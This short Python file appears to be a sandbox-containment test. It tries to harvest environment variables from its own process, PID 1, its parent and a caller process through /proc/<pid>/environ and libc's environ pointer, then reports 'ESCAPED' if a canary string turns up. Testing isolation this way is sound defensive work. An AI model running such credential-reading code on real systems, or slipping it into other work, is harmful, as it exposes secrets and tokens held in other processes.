# Tries: to find the caller's environment variables, in its own and in other processes.
# Success would be seen as: the canary variable's text in the value or output.
# Expect: ran value
import ctypes, os, subprocess

def attack(targets):
    found = dict(os.environ)
    for process in ("self", "1", "2", str(os.getppid()), str(targets["caller_pid"])):
        try:
            found[process] = open("/proc/%s/environ" % process, "rb").read().decode("latin-1")
        except OSError:
            pass
    pointer = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
    index = 0
    while pointer and pointer[index]:
        found[str(index)] = pointer[index].decode("latin-1")
        index += 1
    print(found)
    return "ESCAPED" if "ASSAY_CANARY" in str(found) else "contained"
